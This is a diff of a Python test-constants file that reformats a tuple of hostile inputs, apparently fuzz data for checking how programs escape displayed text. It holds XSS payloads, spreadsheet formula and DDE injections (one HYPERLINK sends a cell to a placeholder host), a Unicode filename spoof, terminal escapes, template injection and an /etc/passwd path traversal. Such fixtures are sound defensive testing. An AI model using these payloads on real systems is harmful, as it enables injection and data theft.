@@ -51,25 +51,15 @@ NEAR_THE_LIMIT: Final = range(820, 1010)
 """Depths at which Python 3.11's stack ends somewhere: here, or a little further in."""
 
 TEXTS: Final = (
-    "<script>window.pwned = 1; alert(1)</script>",
-    "<img src=x onerror='window.pwned=1;alert(1)'>",
-    "\"><svg onload='window.pwned=1;alert(1)'>",
-    "' onmouseover='window.pwned=1' x='",
+    "<script>window.pwned = 1; alert(1)</script>", "<img src=x onerror='window.pwned=1;alert(1)'>",
+    "\"><svg onload='window.pwned=1;alert(1)'>", "' onmouseover='window.pwned=1' x='",
     "](javascript:window.pwned=1) [x](javascript:alert(1))",
     "![x](javascript:alert(1)) <javascript:alert(1)>",
-    '=HYPERLINK("http://x.invalid/?"&A1,"ok")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1)*cmd|'x'!A0",
-    "-2+3+cmd|'x'!A0",
-    "a\u202etxt.exe\u2066\u200f b",
-    "\x1b[31mred\x1b[2J\x07\x00\x08",
-    "two\r\nlines\u2028and\u2029more",
-    "</td></tr></table></script>]]>-->{{ 7*7 }}{% raw %}",
-    "../../../../etc/passwd",
-    "| a | b |\n|---|---|",
-    "x" * 3000,
-    "\ud800 lone",
-)
+    '=HYPERLINK("http://x.invalid/?"&A1,"ok")', "+cmd|' /C calc'!A0", "@SUM(1)*cmd|'x'!A0",
+    "-2+3+cmd|'x'!A0", "a\u202etxt.exe\u2066\u200f b", "\x1b[31mred\x1b[2J\x07\x00\x08",
+    "two\r\nlines\u2028and\u2029more", "</td></tr></table></script>]]>-->{{ 7*7 }}{% raw %}",
+    "../../../../etc/passwd", "| a | b |\n|---|---|", "x" * 3000, "\ud800 lone",
+)  # fmt: skip
 """Texts that mean something to some program that may show them."""
 
 NUMBERS: Final = (
